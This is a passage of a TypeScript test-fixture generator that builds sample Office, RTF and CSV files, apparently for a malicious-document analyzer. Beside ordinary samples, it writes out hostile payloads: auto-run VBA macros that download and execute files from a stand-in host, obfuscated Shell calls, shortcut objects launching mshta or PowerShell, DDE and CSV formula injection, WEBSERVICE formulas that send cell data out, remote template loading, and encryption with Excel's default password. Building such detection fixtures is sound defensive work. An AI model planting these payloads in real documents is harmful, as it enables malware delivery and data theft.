import { createCipheriv, createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import {
  macroFolder,
  nativeStream,
  rtfObject,
} from '../../../analyzers/src/document/document-samples.ts'
import { makePe } from '../../../analyzers/src/executable/program-samples.ts'
import { makeCompoundFile } from '../../../analyzers/src/formats/compound-sample.ts'
import { type Entry, files, noise, sampleFiles, sentences, word } from '../entry.ts'
import { photo } from './pictures.ts'
import { shellLink } from './shell-link.ts'
import { zip } from './zip.ts'

type Parts = Readonly<Record<string, Buffer | string>>
const xml = (text: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n${text}`
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packages = 'http://schemas.openxmlformats.org/package/2006'

type Relation = readonly [type: string, target: string, isExternal?: boolean]
const relations = (...list: readonly Relation[]) =>
  xml(
    `<Relationships xmlns="${packages}/relationships">${list
      .map(
        ([type, target, isExternal], at) =>
          `<Relationship Id="rId${at + 1}" Type="${type.includes(':') ? type : `${office}/${type}`}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
      )
      .join('')}</Relationships>`,
  )

const contentTypes = (main: string, type: string) =>
  xml(
    `<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/${main}" ContentType="application/vnd.${type}.main+xml"/></Types>`,
  )

const common = (main: string, program: string): Record<string, string> => ({
  '_rels/.rels': relations(
    ['officeDocument', main],
    [`${packages}/relationships/metadata/core-properties`, 'docProps/core.xml'],
    ['extended-properties', 'docProps/app.xml'],
  ),
  'docProps/core.xml': xml(
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Jane Doe</dc:creator></cp:coreProperties>',
  ),
  'docProps/app.xml': xml(
    `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>${program}</Application></Properties>`,
  ),
})

const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`

export const docx = (
  title: string,
  parts: Parts = {},
  program = 'Microsoft Office Word',
  inside = '',
): Buffer =>
  zip({
    '[Content_Types].xml': contentTypes(
      'word/document.xml',
      'openxmlformats-officedocument.wordprocessingml.document',
    ),
    ...common('word/document.xml', program),
    'word/document.xml': xml(
      `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}"><w:body>${paragraph(title)}${sentences(12).map(paragraph).join('')}${inside}<w:sectPr/></w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': relations(
      ['styles', 'styles.xml'],
      ['settings', 'settings.xml'],
      ['theme', 'theme/theme1.xml'],
      ['hyperlink', 'https://www.example.org/terms', true],
    ),
    'word/styles.xml': xml(
      '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:default="1" w:styleId="Normal"/></w:styles>',
    ),
    'word/settings.xml': xml(
      '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:zoom w:percent="100"/></w:settings>',
    ),
    'word/theme/theme1.xml': xml(
      '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"/>',
    ),
    ...parts,
  })

export const xlsx = (title: string, parts: Parts = {}, cells = ''): Buffer =>
  zip({
    '[Content_Types].xml': contentTypes(
      'xl/workbook.xml',
      'openxmlformats-officedocument.spreadsheetml.sheet',
    ),
    ...common('xl/workbook.xml', 'Microsoft Excel'),
    'xl/workbook.xml': xml(
      `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${office}"><sheets><sheet name="${title}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': relations(['worksheet', 'worksheets/sheet1.xml']),
    'xl/worksheets/sheet1.xml': xml(
      `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${Array.from({ length: 20 }, (_, at) => `<row r="${at + 1}"><c r="A${at + 1}"><v>${at * 7}</v></c><c r="B${at + 1}"><f>SUM(A1:A${at + 1})</f><v>${at}</v></c></row>`).join('')}${cells}</sheetData></worksheet>`,
    ),
    ...parts,
  })

const pptx = (parts: Parts = {}): Buffer =>
  zip({
    '[Content_Types].xml': contentTypes(
      'ppt/presentation.xml',
      'openxmlformats-officedocument.presentationml.presentation',
    ),
    ...common('ppt/presentation.xml', 'Microsoft Office PowerPoint'),
    'ppt/presentation.xml': xml(
      '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
    ),
    'ppt/slides/slide1.xml': xml(
      `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">${sentences(
        3,
      )
        .map((text) => `<a:t>${text}</a:t>`)
        .join('')}</p:sld>`,
    ),
    'ppt/slides/_rels/slide1.xml.rels': relations(
      ['slideLayout', '../slideLayouts/slideLayout1.xml'],
      ['hyperlink', 'https://www.example.org/', true],
    ),
    ...parts,
  })

const odf = (
  kind: string,
  parts: Parts = {},
  body = sentences(10)
    .map((text) => `<text:p>${text}</text:p>`)
    .join(''),
): Buffer =>
  zip(
    {
      mimetype: `application/vnd.oasis.opendocument.${kind}`,
      'META-INF/manifest.xml': xml(
        `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/></manifest:manifest>`,
      ),
      'content.xml': xml(
        `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:body>${body}</office:body></office:document-content>`,
      ),
      'styles.xml': xml(
        '<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
      ),
      'meta.xml': xml(
        '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><meta:generator>LibreOffice/24.2.6.2$Linux_X86_64</meta:generator></office:document-meta>',
      ),
      'Thumbnails/thumbnail.png': noise(200),
      ...parts,
    },
    { stored: /^mimetype$/ },
  )

/** What a stream of numbers of Word begins with. */
function wordStream(): Buffer {
  const bytes = Buffer.alloc(8192)
  bytes.writeUInt16LE(0xa5ec, 0)
  bytes.writeUInt16LE(0x00c1, 2)
  bytes.writeUInt16LE(0x0409, 6)
  bytes.write(sentences(20).join('\r').slice(0, 4000), 1536, 'latin1')
  return bytes
}
const summary = () =>
  Buffer.concat([
    Buffer.from(
      'feff0000060102000000000000000000000000000000000001000000e0859ff2f94f6810ab9108002b27b3d930000000',
      'hex',
    ),
    Buffer.alloc(100),
  ])
const doc = (more: Parameters<typeof makeCompoundFile>[0] = {}): Buffer =>
  makeCompoundFile({
    WordDocument: wordStream(),
    '1Table': Buffer.alloc(4500, 2),
    '\x05SummaryInformation': summary(),
    '\x05DocumentSummaryInformation': summary(),
    '\x01CompObj': Buffer.from('0100feff030a0000ffffffff0609020000000000c000000000000046', 'hex'),
    ...more,
  })

/** Records of a workbook of Excel 97; `kind` 1 is a sheet of macros. */
function workbook(kind = 0, more: readonly Buffer[] = []): Buffer {
  const record = (id: number, body: Buffer) => {
    const head = Buffer.alloc(4)
    head.writeUInt16LE(id, 0)
    head.writeUInt16LE(body.length, 2)
    return Buffer.concat([head, body])
  }
  const start = (type: number) =>
    record(
      0x809,
      Buffer.from(
        `0006${type === 5 ? '0500' : type === 0x40 ? '4000' : '1000'}bb0dcc07c100000006030000`,
        'hex',
      ),
    )
  const name = Buffer.from('Sheet1')
  const bound = Buffer.alloc(8)
  bound.writeUInt8(kind, 5)
  bound.writeUInt8(name.length, 6)
  const globals = [
    start(5),
    record(0x42, Buffer.from('b004', 'hex')),
    record(0x85, Buffer.concat([bound, name])),
    ...more,
    record(0x0a, Buffer.alloc(0)),
  ]
  const length = globals.reduce((sum, part) => sum + part.length, 0)
  globals[2]?.writeUInt32LE(length, 4)
  const whole = Buffer.concat([
    ...globals,
    start(kind === 1 ? 0x40 : 0x10),
    record(0x0a, Buffer.alloc(0)),
  ])
  return Buffer.concat([whole, Buffer.alloc(Math.max(0, 4200 - whole.length))])
}
const autoOpen = (() => {
  const name = Buffer.alloc(15)
  name.writeUInt16LE(0x20, 0)
  name.writeUInt8(1, 3)
  name.writeUInt16LE(0, 4)
  const head = Buffer.from('18000000', 'hex')
  const body = Buffer.concat([name, Buffer.from([1])])
  head.writeUInt16LE(body.length, 2)
  return Buffer.concat([head, body])
})()

const tidy =
  'Attribute VB_Name = "Module1"\r\nSub FormatTable()\r\n  Dim r As Range\r\n  For Each r In Selection.Rows\r\n    r.Interior.Color = RGB(240, 240, 240)\r\n  Next\r\nEnd Sub\r\nFunction Vat(x As Double) As Double\r\n  Vat = x * 0.081\r\nEnd Function\r\n'
const loader = word(
  'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  Dim o As Object\r\n  Set o = CreateObject("WScr',
  'ipt.Shell")\r\n  o.Run "power',
  'shell -w hidden -c iwr http://files.example.net/a -outfile $env:tmp\\a.exe", 0\r\nEnd Sub\r\n',
)
const puzzle = word(
  'Attribute VB_Name = "Sheet1"\r\nSub Auto_Open()\r\n  Dim s As String\r\n  s = Chr(99) & Chr(109) & Chr(100) & Chr(32) & Chr(47) & Chr(99) & StrReverse("exe.clac trats ")\r\n  Call Sh',
  'ell(s, vbHide)\r\nEnd Sub\r\n',
)
const stream = word(
  'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n Dim x: Set x = CreateObject("Microsoft.XML',
  'HTTP")\r\n x.Open "GET", "http://files.example.net/p.bin", False: x.Send\r\n Dim a: Set a = CreateObject("ADODB.Str',
  'eam"): a.Type = 1: a.Open: a.Write x.responseBody: a.SaveToFile Environ("TEMP") & "\\p.exe", 2\r\n CreateObject("Shell.Application").ShellExecute Environ("TEMP") & "\\p.exe"\r\nEnd Sub\r\n',
)
const project = (source: string) =>
  makeCompoundFile({
    PROJECT: Buffer.from('ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'),
    VBA: macroFolder({ Module1: source }),
  })
const withMacros = (source: string): Parts => ({
  'word/_rels/document.xml.rels': relations(
    ['styles', 'styles.xml'],
    ['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'],
  ),
  'word/vbaProject.bin': project(source),
})
const sheetMacros = (source: string): Parts => ({
  'xl/_rels/workbook.xml.rels': relations(
    ['worksheet', 'worksheets/sheet1.xml'],
    ['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'],
  ),
  'xl/vbaProject.bin': project(source),
})

/** Slides of PowerPoint 97: containers around the storage of macros, which is not packed in all versions. */
function ppt(macros: Buffer | undefined, isPacked: boolean): Buffer {
  const record = (version: number, id: number, body: Buffer) => {
    const head = Buffer.alloc(8)
    head.writeUInt16LE(version, 0)
    head.writeUInt16LE(id, 2)
    head.writeUInt32LE(body.length, 4)
    return Buffer.concat([head, body])
  }
  const size = Buffer.alloc(4)
  size.writeUInt32LE(macros?.length ?? 0)
  const storage =
    macros === undefined
      ? []
      : [
          isPacked
            ? record(0x10, 0x1011, Buffer.concat([size, deflateSync(macros)]))
            : record(0, 0x1011, macros),
        ]
  const text = record(0, 0xfa0, Buffer.from(sentences(4).join('\r'), 'utf16le'))
  const information =
    macros === undefined
      ? []
      : [record(0x1f, 0x3ff, record(2, 0x400, Buffer.from('010000000100000002000000', 'hex')))]
  const container = record(
    0xf,
    0x3e8,
    Buffer.concat([record(1, 0x3e9, Buffer.alloc(40)), ...information, record(0xf, 0xff0, text)]),
  )
  const user = record(
    0,
    0xff6,
    Buffer.concat([Buffer.from('140000005fc091e300000000', 'hex'), Buffer.alloc(20)]),
  )
  return makeCompoundFile({
    'Current User': user,
    'PowerPoint Document': Buffer.concat([
      container,
      ...storage,
      record(0, 0x1772, Buffer.alloc(12)),
      Buffer.alloc(4096),
    ]),
    '\x05SummaryInformation': summary(),
  })
}

/**
 * Encrypted as [MS-OFFCRYPTO] 2.3.4 says ("standard"), with the password that Excel tries
 * automatically.
 */
function encrypted(content: Buffer, password: string): Buffer {
  const sha1 = (...parts: readonly Buffer[]) =>
    createHash('sha1').update(Buffer.concat(parts)).digest()
  const number = (value: number) => {
    const bytes = Buffer.alloc(4)
    bytes.writeUInt32LE(value)
    return bytes
  }
  const salt = noise(16, 7)
  let hash = sha1(salt, Buffer.from(password, 'utf16le'))
  for (let round = 0; round < 50_000; round += 1) hash = sha1(number(round), hash)
  const final = sha1(hash, number(0))
  const pad = Buffer.alloc(64, 0x36)
  for (const [at, byte] of final.entries()) pad[at] = byte ^ 0x36
  const key = sha1(pad).subarray(0, 16)
  const cipher = (plain: Buffer) => {
    const aes = createCipheriv('aes-128-ecb', key, null).setAutoPadding(false)
    return Buffer.concat([aes.update(plain), aes.final()])
  }
  const verifier = noise(16, 8)
  const provider = Buffer.from('Microsoft Enhanced RSA and AES Cryptographic Provider\0', 'utf16le')
  const header = Buffer.concat([
    number(0x24),
    number(0),
    number(0x660e),
    number(0x8004),
    number(128),
    number(0x18),
    number(0),
    number(0),
    provider,
  ])
  const information = Buffer.concat([
    Buffer.from('0400020024000000', 'hex'),
    number(header.length),
    header,
    number(16),
    salt,
    cipher(verifier),
    number(20),
    cipher(Buffer.concat([sha1(verifier), Buffer.alloc(12)])),
  ])
  const length = Buffer.alloc(8)
  length.writeBigUInt64LE(BigInt(content.length))
  const whole = Buffer.concat([content, Buffer.alloc(-content.length & 15)])
  return makeCompoundFile({
    EncryptionInfo: information,
    EncryptedPackage: Buffer.concat([length, cipher(whole)]),
  })
}
const standardPassword = 'VelvetSweatshop'

const rtf = (...parts: readonly string[]) =>
  `{\\rtf1\\ansi\\ansicpg1252\\deff0\\nouicompat{\\fonttbl{\\f0\\fnil\\fcharset0 Calibri;}}\r\n{\\*\\generator Riched20 10.0.19041}\\viewkind4\\uc1 \\pard\\f0\\fs22 ${sentences(4).join('\\par\r\n')}\\par\r\n${parts.join('\r\n')}}\r\n`
const embedded = (name: string, content: Buffer) =>
  makeCompoundFile({
    '\x01CompObj': Buffer.from('Package'),
    '\x01Ole10Native': nativeStream(name, content),
  })
const object = (name: string, content: Buffer): Parts => ({
  'word/_rels/document.xml.rels': relations(
    ['styles', 'styles.xml'],
    ['oleObject', 'embeddings/oleObject1.bin'],
  ),
  'word/embeddings/oleObject1.bin': embedded(name, content),
})
const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const related = (...list: readonly Relation[]): Parts => ({
  'word/_rels/document.xml.rels': relations(['styles', 'styles.xml'], ...list),
})
const settings = (target: string): Parts => ({
  'word/_rels/settings.xml.rels': relations(['attachedTemplate', target, true]),
})

const any = /^(?:document|shortcut|script|executable|file|archive|yara)\./

export const officeEntries = (): Entry[] => [
  ...files('office', 'ordinary documents', [
    ['Minutes.docx', docx('Minutes')],
    [
      'Google export.docx',
      docx('Export', { 'word/numbering.xml': xml('<w:numbering xmlns:w="x"/>') }, 'Google Docs'),
    ],
    ['LibreOffice.docx', docx('Brief', {}, 'LibreOffice/24.2.6.2$Linux_X86_64')],
    ['Pages.docx', docx('Letter', {}, 'Pages')],
    [
      'with picture.docx',
      docx('Report', {
        'word/media/image1.jpeg': photo(2),
        ...related(['image', 'media/image1.jpeg']),
      }),
    ],
    [
      'with local template.docx',
      docx(
        'Offer',
        settings('file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'),
      ),
    ],
    [
      'with company template.docx',
      docx('Offer', settings('file:///\\\\fileserver\\templates\\Letter.dotx')),
    ],
    [
      'with links.docx',
      docx(
        'Links',
        related(
          ['hyperlink', 'https://www.admin.ch/', true],
          ['hyperlink', 'mailto:info@example.org', true],
          ['hyperlink', 'file:///S:\\Projects\\plan.xlsx', true],
        ),
      ),
    ],
    [
      'with fields.docx',
      docx(
        'Serial letter',
        {},
        undefined,
        field(' MERGEFIELD Name \\* MERGEFORMAT ') +
          field(' PAGE ') +
          field(' DATE \\@ "dd.MM.yyyy" ') +
          field(' TOC \\o "1-3" \\h '),
      ),
    ],
    [
      'with chart.docx',
      docx('Chart', {
        'word/embeddings/Microsoft_Excel_Worksheet.xlsx': xlsx('Chart'),
        'word/charts/chart1.xml': xml('<c:chartSpace xmlns:c="x"/>'),
        ...related(['chart', 'charts/chart1.xml']),
      }),
    ],
    [
      'with comments.docx',
      docx('Draft', {
        'word/comments.xml': xml('<w:comments xmlns:w="x"/>'),
        'word/footnotes.xml': xml('<w:footnotes xmlns:w="x"/>'),
      }),
    ],
    [
      'with equation.docx',
      docx(
        'Maths',
        {},
        undefined,
        '<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>x=1</m:t></m:r></m:oMath></w:p>',
      ),
    ],
    ['with pdf inside.docx', docx('Annex', object('annex.pdf', Buffer.from('%PDF-1.4\n%%EOF\n')))],
    ['Form.dotx', docx('Form')],
    ['Budget 2026.xlsx', xlsx('Budget')],
    [
      'with links.xlsx',
      xlsx(
        'Links',
        {
          'xl/worksheets/_rels/sheet1.xml.rels': relations([
            'hyperlink',
            'https://www.example.org/prices',
            true,
          ]),
        },
        '<row r="30"><c r="A30"><f>HYPERLINK("https://www.example.org/","Prices")</f></c></row>',
      ),
    ],
    [
      'with other workbook.xlsx',
      xlsx(
        'Sum',
        {
          'xl/externalLinks/externalLink1.xml': xml(
            '<externalLink xmlns="x"><externalBook/></externalLink>',
          ),
          'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
            'externalLinkPath',
            'file:///S:\\Finance\\2025.xlsx',
            true,
          ]),
        },
        '<row r="30"><c r="A30"><f>[1]Sheet1!A1</f></c></row>',
      ),
    ],
    [
      'with database.xlsx',
      xlsx('Stock', {
        'xl/connections.xml': xml(
          '<connections xmlns="x"><connection id="1" name="ERP" type="1"><dbPr connection="DSN=ERP;DATABASE=stock" command="SELECT * FROM parts"/></connection></connections>',
        ),
      }),
    ],
    [
      'formulas.xlsx',
      xlsx(
        'F',
        {},
        '<row r="30"><c r="A30"><f>IFERROR(VLOOKUP(A1,B:C,2,FALSE),"")</f></c><c r="B30"><f>INDIRECT("A"&amp;ROW())</f></c><c r="C30"><f>TEXT(TODAY(),"dd.mm.yyyy")</f></c></row>',
      ),
    ],
    ['Tools.xlsm', xlsx('Tools', sheetMacros(tidy))],
    ['Template.docm', docx('Template', withMacros(tidy))],
    ['Slides.pptx', pptx()],
    [
      'Slides with sound.pptx',
      pptx({
        'ppt/slides/_rels/slide1.xml.rels': relations(
          ['slideLayout', '../slideLayouts/slideLayout1.xml'],
          ['video', 'https://www.youtube.com/embed/dQw4w9WgXcQ', true],
        ),
      }),
    ],
    [
      'Next slide.pptx',
      pptx({
        'ppt/slides/slide1.xml': xml(
          '<p:sld xmlns:p="x" xmlns:a="y"><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>',
        ),
      }),
    ],
    ['letter.odt', odf('text')],
    [
      'sheet.ods',
      odf(
        'spreadsheet',
        {},
        '<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-cell table:formula="of:=SUM([.A1:.A9])"/></table:table>',
      ),
    ],
    ['slides.odp', odf('presentation')],
    ['drawing.odg', odf('graphics')],
    [
      'with link.odt',
      odf('text', {}, '<text:p><text:a xlink:href="https://www.example.org/">x</text:a></text:p>'),
    ],
    ['letter.doc', doc()],
    ['old report.doc', doc({ Data: Buffer.alloc(5000, 3), ObjectPool: {} })],
    ['template with macros.doc', doc({ Macros: { VBA: macroFolder({ Module1: tidy }) } })],
    ['sheet.xls', makeCompoundFile({ Workbook: workbook(), '\x05SummaryInformation': summary() })],
    ['slides.ppt', ppt(undefined, true)],
    ['note.rtf', rtf()],
    [
      'mac.rtf',
      `{\\rtf1\\ansi\\ansicpg1252\\cocoartf2761\n\\cocoatextscaling0\\cocoaplatform0{\\fonttbl\\f0\\fswiss\\fcharset0 Helvetica;}\n{\\colortbl;\\red255\\green255\\blue255;}\n\\f0\\fs24 \\cf0 ${sentences(3).join('\\\n')}}`,
    ],
    ['picture.rtf', rtf(`{\\pict\\jpegblip\\picw96\\pich64 ${photo(3).toString('hex')}}`)],
    [
      'link.rtf',
      rtf('{\\field{\\*\\fldinst{HYPERLINK "https://www.example.org/"}}{\\fldrslt{Example}}}'),
    ],
    [
      'export.csv',
      'name;amount;phone\r\nMüller;-12,50;+41 44 123 45 67\r\n"Doe, Jane";=SUM(B2:B3);@home\r\n',
    ],
    [
      'bank.csv',
      `date,text,amount\r\n${Array.from({ length: 50 }, (_, at) => `2026-06-${String((at % 28) + 1).padStart(2, '0')},"Payment ${at}",-${at}.50`).join('\r\n')}\r\n`,
    ],
  ]),
  ...sampleFiles('office', 'picture on another machine (UNC)', any, [
    ['tracked.docx', docx('News', related(['image', 'file:///\\\\1.2.3.4\\share\\a.png', true]))],
    ['tracked2.docx', docx('News', related(['image', '\\\\files.example.net@80\\a\\b.jpg', true]))],
    [
      'field.docx',
      docx(
        'News',
        {},
        undefined,
        field(' INCLUDEPICTURE "\\\\\\\\1.2.3.4\\\\s\\\\a.png" \\* MERGEFORMAT \\d '),
      ),
    ],
    [
      'slide.pptx',
      pptx({
        'ppt/slides/_rels/slide1.xml.rels': relations([
          'image',
          'file://1.2.3.4/share/x.png',
          true,
        ]),
      }),
    ],
  ]),
  ...sampleFiles('office', 'formula that asks a server', any, [
    [
      'service.xlsx',
      xlsx(
        'S',
        {},
        '<row r="30"><c r="A30"><f>_xlfn.WEBSERVICE("http://collect.example.net/?d="&amp;A1)</f></c></row>',
      ),
    ],
    [
      'service2.xlsx',
      xlsx(
        'S',
        {},
        '<row r="30"><c r="A30"><f>_xlfn.FILTERXML(_xlfn.WEBSERVICE(CONCATENATE("https://collect.example.net/",B2)),"//a")</f></c></row>',
      ),
    ],
    [
      'link sends.xlsx',
      xlsx(
        'S',
        {},
        '<row r="30"><c r="A30"><f>HYPERLINK("http://collect.example.net/?x="&amp;A1&amp;B2,"Error: click here")</f></c></row>',
      ),
    ],
    ['service.csv', 'a,b\r\n1,"=WEBSERVICE(""http://collect.example.net/?x=""&A1)"\r\n'],
    [
      'image.csv',
      'a,b\r\n1,"=IMPORTXML(CONCAT(""http://collect.example.net/?v="", CONCATENATE(A2:E2)), ""//a/a10"")"\r\n',
    ],
  ]),
  ...sampleFiles('office', 'encrypted with the standard password', any, [
    ['Order.xlsx', encrypted(xlsx('Order', sheetMacros(puzzle)), standardPassword)],
    [
      'Quote.xlsx',
      encrypted(
        xlsx('Quote', {
          'xl/externalLinks/externalLink1.xml': xml(
            '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          ),
        }),
        standardPassword,
      ),
    ],
  ]),
  ...sampleFiles('office', 'macros of PowerPoint 97', any, [
    ['slides.ppt', ppt(project(stream), true)],
    ['plain.ppt', ppt(project(stream), false)],
    ['show.pps', ppt(project(loader.replace('Document_Open', 'Auto_Open')), false)],
  ]),
  ...sampleFiles('office', 'shortcut inside', any, [
    [
      'Report.docx',
      docx(
        'Report',
        object(
          'Report.pdf.lnk',
          shellLink({
            target: 'C:\\Windows\\System32\\mshta.exe',
            args: 'http://files.example.net/a.hta',
          }),
        ),
      ),
    ],
    [
      'Invoice.docx',
      docx(
        'Invoice',
        object(
          'open.lnk',
          shellLink({
            target: 'C:\\Windows\\System32\\cmd.exe',
            args: `/c ${word('power', 'shell')} -w hidden iwr http://files.example.net/a`,
          }),
        ),
      ),
    ],
    [
      'Invoice.doc',
      doc({
        ObjectPool: {
          _1234: {
            '\x01Ole10Native': nativeStream(
              'Invoice.lnk',
              shellLink({
                target: 'C:\\Windows\\System32\\rundll32.exe',
                args: '\\\\1.2.3.4\\s\\a.dll,Run',
              }),
            ),
          },
        },
      }),
    ],
  ]),
  ...sampleFiles('office', 'macros that start by themselves', any, [
    ['Open me.docm', docx('Enable content', withMacros(loader))],
    ['Enable.doc', doc({ Macros: { VBA: macroFolder({ ThisDocument: loader }) } })],
    ['Numbers.xlsm', xlsx('N', sheetMacros(puzzle))],
    [
      'Offer.xls',
      makeCompoundFile({
        Workbook: workbook(),
        _VBA_PROJECT_CUR: {
          VBA: macroFolder({ ThisWorkbook: stream.replace('AutoOpen', 'Workbook_Open') }),
        },
      }),
    ],
    [
      'Deck.pptm',
      pptx({
        'ppt/_rels/presentation.xml.rels': relations([
          'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
          'vbaProject.bin',
        ]),
        'ppt/vbaProject.bin': project(stream),
      }),
    ],
    ['Add-in.xlam', xlsx('A', sheetMacros(loader.replace('Document_Open', 'Workbook_Open')))],
    [
      'macro.odt',
      odf(
        'text',
        {
          'Basic/Standard/Module1.xml': xml(
            '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main\n Shell("cmd /c start http://files.example.net/a.exe")\nEnd Sub</script:module>',
          ),
        },
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>',
      ),
    ],
  ]),
  ...sampleFiles('office', 'macros of Excel 4', any, [
    ['old.xls', makeCompoundFile({ Workbook: workbook(1, [autoOpen]) })],
    [
      'new.xlsm',
      xlsx('M', {
        'xl/macrosheets/sheet1.xml': xml(
          '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f></c></row></sheetData></xm:macrosheet>',
        ),
        'xl/_rels/workbook.xml.rels': relations(
          ['worksheet', 'worksheets/sheet1.xml'],
          [
            'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
            'macrosheets/sheet1.xml',
          ],
        ),
      }),
    ],
    [
      'text.slk',
      'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC("CMD.EXE /c calc")\r\nC;X1;Y102;EHALT()\r\nE\r\n',
    ],
  ]),
  ...sampleFiles('office', 'starts a program by DDE', any, [
    [
      'dde.docx',
      docx(
        'D',
        {},
        undefined,
        field(' DDEAUTO "C:\\\\Windows\\\\System32\\\\cmd.exe" "/k calc.exe" '),
      ),
    ],
    [
      'split.docx',
      docx(
        'D',
        {},
        undefined,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\</w:instrText></w:r><w:r><w:instrText>cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
    ],
    [
      'dde.xlsx',
      xlsx('D', {
        'xl/externalLinks/externalLink1.xml': xml(
          `<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c ${word('power', 'shell')} -nop"/></externalLink>`,
        ),
      }),
    ],
    ['plus.csv', `a,b\r\n"+cmd|'/c calc'!A0",1\r\n`],
    ['at.csv', `a,b\r\n"@SUM(1+9)*cmd|' /C calc'!A0",1\r\n`],
    ['minus.csv', `a;b\r\n-2+3+cmd|' /C calc'!D2;1\r\n`],
  ]),
  ...sampleFiles('office', 'loads from elsewhere', any, [
    ['template.docx', docx('T', settings('http://files.example.net/t/normal.dotm'))],
    ['template share.docx', docx('T', settings('file:///\\\\1.2.3.4\\t\\a.dotm'))],
    [
      'object.docx',
      docx(
        'O',
        related([
          'oleObject',
          'mhtml:http://files.example.net/x.html!x-usc:http://files.example.net/x.html',
          true,
        ]),
      ),
    ],
    [
      'object2.docx',
      docx('O', related(['oleObject', 'https://files.example.net/RDF842l.html!', true])),
    ],
    ['chunk.docx', docx('C', related(['aFChunk', 'http://files.example.net/a.rtf', true]))],
    [
      'frame.docx',
      docx('F', {
        'word/_rels/webSettings.xml.rels': relations([
          'frame',
          'http://files.example.net/f.html',
          true,
        ]),
      }),
    ],
    ['query.iqy', 'WEB\r\n1\r\nhttp://files.example.net/q.dat\r\n\r\nSelection=AllTables\r\n'],
  ]),
  ...sampleFiles('office', 'objects in RTF', any, [
    ['equation.rtf', rtf(rtfObject('Equation.3', noise(200)))],
    [
      'package.rtf',
      rtf(
        rtfObject(
          'Package',
          Buffer.concat([
            Buffer.from('0200', 'hex'),
            Buffer.from('a.exe\0C:\\a.exe\0'),
            Buffer.from('000003000600000061', 'hex'),
            makePe(),
          ]),
        ),
      ),
    ],
    [
      'moniker.rtf',
      rtf(
        '{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000090000004f4c45324c696e6b000000000000000000000a0000d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900}}',
      ),
    ],
    [
      'template.rtf',
      `{\\rtf1\\ansi{\\*\\template http://files.example.net/a.dotm}${sentences(2).join(' ')}}`,
    ],
  ]),
  ...sampleFiles('office', 'program inside', any, [
    ['setup.docx', docx('S', object('setup.exe', makePe()))],
    [
      'readme.xlsx',
      xlsx('R', {
